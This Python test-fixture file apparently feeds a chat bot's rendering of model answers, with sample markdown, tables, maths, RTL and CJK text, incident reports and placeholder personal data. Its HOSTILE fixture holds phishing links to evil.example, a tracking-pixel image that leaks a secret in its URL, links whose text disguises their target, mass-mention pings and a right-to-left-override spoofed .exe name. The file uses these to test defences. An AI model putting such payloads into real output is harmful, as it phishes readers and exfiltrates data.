"""What the gallery's models answered."""

from typing import Final

from bot.core.event import Json

CLAIM: Final = """### Summary
1. Pipe burst on the second floor
2. Kitchen and hallway affected
3. Estimate: **4,800 EUR**

No sign of an *earlier* claim for the same damage."""

SCORE: Final = """**Score 0.43: look at it.**

- The device was first seen four minutes ago
- Shipping and billing address are 900 km apart
- But the customer has bought here for *six years*"""

TABLE: Final = """The slow region is **eu-west**:

| region | requests | p50 | p99 |
|:-------|---------:|----:|----:|
| us-east | 120,430 | 210 ms | 1.4 s |
| eu-west | 98,112 | 540 ms | 9.8 s |
| ap-south | 41,007 | 260 ms | 1.9 s |

Start with the connection pool there."""

WIDE: Final = """| vendor | strengths | weaknesses | price |
|---|---|---|---|
| Alder | Quick answers, at night too | No data centre in the EU | 4,200 EUR a month |
| Birch | Runs in our own cloud account | Two releases a year, each a week of work for our team | 3,100 EUR a month |"""

MATHS: Final = r"""For a Poisson variable \(X\) with rate \(\lambda_i\), \(E[X_i] = \lambda_i\). Since

\[
\operatorname{Var}(X) = E[X^2] - E[X]^2 = \lambda^2 + \lambda - \lambda^2 = \lambda
\]

the standard error over $n$ windows is $s = \sqrt{\lambda / n}$, and

$$
\hat{\lambda} \pm z_{1-\alpha/2} \sqrt{\frac{\hat{\lambda}}{n}}
$$

At $5 a window, that costs $20."""

TASKS: Final = """- [x] Copy the old index
- [x] Switch reads
- [ ] Drop the old index
  - [ ] after a week
  - [ ] with a backup

> **Careful:** the job holds a lock.
>
> 1. Stop the writers
> 2. Run it
>
> > It took 40 s the last time.

---

Done with ~~two~~ one reviewer."""

ROWS: Final[Json] = [
    {"segment": "retail", "n": 18_211, "auc": 0.941, "drift": False},
    {"segment": "business", "n": 2_904, "auc": 0.887, "drift": True},
    {"segment": "private banking", "n": 310, "auc": 0.902, "drift": None},
]

DOCUMENT: Final[Json] = {
    "invoice": "2026-11-0042",
    "seller": {"name": "Birch & Sons", "vat": "DE123456789", "address": {"city": "Köln", "zip": "50667"}},
    "lines": [{"item": f"Part {number}", "count": number, "price": 9.5 * number} for number in range(1, 25)],
    "paid": None,
    "total": 2850.0,
    "notes": "Delivered in two parts. " * 12,
}

RTL: Final = """## الرد المقترح

شكرًا لك على رسالتك. تم إصدار المبلغ **120.50 EUR** يوم الاثنين، رقم المرجع `RF-2041`.

- تستغرق البنوك حتى *خمسة أيام*
- اتصل بنا على العنوان support في أي وقت

> שלום רב, ההחזר בוצע ב-3 בנובמבר (Visa)."""

CJK: Final = """**翻訳:** 返金は月曜日に処理されました。銀行では最大*5日*かかります。

| 言語 | 訳文 | 品質 |
|---|---|---|
| 日本語 | 返金済み | 良い 👍🏽 |
| 中文 | 已退款 | 好 |
| 한국어 | 환불 완료 | 좋음 🇰🇷 |

家族 👩‍👩‍👧‍👦 と国旗 🇩🇪 はそのまま。"""

HOSTILE: Final = """<!channel> <@U024BE7LH> everyone, please [sign in again](https://evil.example/?who=ana) now.

![status](https://evil.example/pixel.png?secret=4711)

<a href="https://evil.example">Deploy OK</a> or [https://good.example](https://evil.example/x)

\u202egnp.exe and @here and <https://evil.example|your bank>"""

_PARAGRAPH: Final = (
    "At {hour:02}:{minute:02} the pool ran dry for the {nth} time. Requests waited for a connection, timed out after "
    "30 s, and were tried again by their callers, which kept the pool empty. The alert for the pool had been silenced "
    "during the move of last week and nobody had taken the silence away.\n\n"
)


def _report(paragraphs: int) -> str:
    parts = [
        (f"## Hour {number // 6 + 1}\n\n" if number % 6 == 0 else "")
        + _PARAGRAPH.format(hour=number // 6 % 24, minute=number % 6 * 10, nth=f"{number + 1}.")
        for number in range(paragraphs)
    ]
    return "# What happened\n\n" + "".join(parts)


LONG: Final = _report(70)
HUGE: Final = _report(400)

PERSONAL: Final = """Dear Ms Duarte,

we have sent 240.00 EUR to **DE89 3704 0044 0532 0130 00**. If it is not there by Friday, write to
ana.duarte@example.com or call +49 221 4710 8150. The card 4111 1111 1111 1111 was not charged.

Order 2026-11-0042, version 3.2.1, is closed."""
